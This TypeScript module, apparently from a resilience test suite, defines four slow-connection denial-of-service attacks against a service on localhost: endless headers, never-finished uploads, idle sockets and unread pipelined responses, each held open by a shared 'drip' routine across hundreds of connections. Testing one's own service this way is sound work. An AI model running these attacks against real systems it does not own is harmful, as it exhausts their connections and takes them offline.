/** Attacks below HTTP: connections that cost the attacker nothing. */
import type { Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import type { Attack, Target } from '../target.ts';

/** Opens connections and lets each send a beginning; then drips a piece into all of them until the attack is over. */
async function drip(target: Target, count: number, beginning: string, piece: string): Promise<void> {
  const sockets: Socket[] = [];
  for (let i = 0; i < count; i += 1) {
    const socket = target.connect();
    socket.write(beginning);
    sockets.push(socket);
  }
  while (!target.signal.aborted) {
    await delay(500);
    for (const socket of sockets) if (!socket.destroyed && piece !== '') socket.write(piece);
  }
  for (const socket of sockets) socket.destroy();
}

export const slowHeaders: Attack = {
  name: 'slow-headers',
  aim: 'connections whose headers never end',
  run: (target) => drip(target, 500, 'GET /health HTTP/1.1\r\nHost: localhost\r\n', 'X-More: 1\r\n'),
};

export const slowBodies: Attack = {
  name: 'slow-bodies',
  aim: 'bodies that never end',
  run: (target) =>
    drip(
      target,
      300,
      `POST /datasets/upload HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer ${target.user.client.token}\r\nContent-Type: multipart/form-data; boundary=x\r\nContent-Length: 30000000\r\n\r\n--x\r\n`,
      'x'.repeat(100),
    ),
};

export const idleConnections: Attack = {
  name: 'idle-connections',
  aim: 'connections on which nothing is sent',
  run: (target) => drip(target, 1000, '', ''),
};

export const unreadAnswers: Attack = {
  name: 'unread-answers',
  aim: 'answers that nobody reads',
  run: (target) => drip(target, 200, 'GET /openapi.json HTTP/1.1\r\nHost: localhost\r\n\r\n'.repeat(20), ''),
};
